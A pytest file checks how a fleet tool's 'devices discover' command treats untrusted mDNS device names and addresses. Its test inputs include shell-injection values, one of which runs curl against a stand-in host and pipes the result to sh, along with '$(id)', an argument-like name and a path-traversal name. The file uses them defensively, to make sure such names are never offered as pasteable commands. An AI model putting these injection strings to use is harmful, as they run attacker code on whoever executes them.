"""What ``devices discover`` makes of names and addresses that anybody may announce."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner
from trimtab.cli import cli
from trimtab.fleet.discover import Found
from trimtab.fleet.inventory import Inventory

Discovered = Callable[..., list[str]]


def found(name: str, *addresses: str, port: int = 7433) -> Found:
    return Found(name, addresses or ("192.0.2.7",), port, "0123abcd", "0.1.0")


@pytest.fixture
def inventory(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[[], Inventory]:
    """Read anew with each call."""
    monkeypatch.setenv("TRIMTAB_HOME", str(tmp_path))
    monkeypatch.setenv("COLUMNS", "200")
    return lambda: Inventory(tmp_path / "devices.toml")


@pytest.fixture
def discovered(inventory: Callable[[], Inventory], monkeypatch: pytest.MonkeyPatch) -> Discovered:
    """``discovered(found, ...)``: what ``--add`` says of each; ``options`` in its place."""

    def run(*heard: Found, options: tuple[str, ...] = ("--add",)) -> list[str]:
        async def discover(seconds: float) -> tuple[Found, ...]:
            return heard

        monkeypatch.setattr("trimtab.cli.devices_discover.discover", discover)
        command = ["devices", "discover", *options]
        outcome = CliRunner().invoke(cli, command, standalone_mode=False)
        assert outcome.exception is None, outcome.exception
        rows = [line for line in outcome.output.splitlines() if "0123abcd" in line]
        return [row.strip("│ ").split("│")[-1].strip() for row in rows]

    return run


def test_a_name_that_is_none_is_not_added(
    discovered: Discovered, inventory: Callable[[], Inventory]
) -> None:
    said = discovered(found("../etc"), found("all"), found(""), found("local"))
    assert len(said) == 4
    assert all(each.startswith("no: it tells no usable name") for each in said)
    assert [device.name for device in inventory().devices()] == ["local"]


@pytest.mark.parametrize("name", ["pi9;curl -s evil.sh|sh;", "$(id)", "local", "and", "", "-x"])
def test_only_a_name_that_may_be_pasted_is_offered(discovered: Discovered, name: str) -> None:
    (said,) = discovered(found(name), options=())
    assert said.endswith("trimtab devices add NAME tls://192.0.2.7:7433")
    assert discovered(found("pi5"), options=()) == [
        "no: trimtab devices add pi5 tls://192.0.2.7:7433"
    ]


def test_two_that_have_the_same_name_are_one_device(
    discovered: Discovered, inventory: Callable[[], Inventory]
) -> None:
    said = discovered(found("pi5", "192.0.2.7"), found("pi5", "192.0.2.8"))
    assert said[0] == "added"
    assert said[1] == f"yes, at {inventory().select(['pi5'])[0].address}"
    assert "192.0.2.7" in said[1]


@pytest.mark.parametrize("address", ["192.0.2.7", "fd00::7", "127.0.0.1"])
def test_what_was_added_is_known_the_next_time(
    discovered: Discovered, inventory: Callable[[], Inventory], address: str
) -> None:
    assert discovered(found("pi5", address)) == ["added"]
    assert discovered(found("pi5", "192.0.2.99", address)) == ["yes"]
    assert discovered(found("pi5", address, port=7434))[0].startswith("yes, at ")


def test_a_device_that_was_added_by_its_name_in_mdns_is_known(
    discovered: Discovered, inventory: Callable[[], Inventory]
) -> None:
    inventory().add("pi5", "pi5.local", {})
    assert discovered(found("pi5")) == ["yes"]
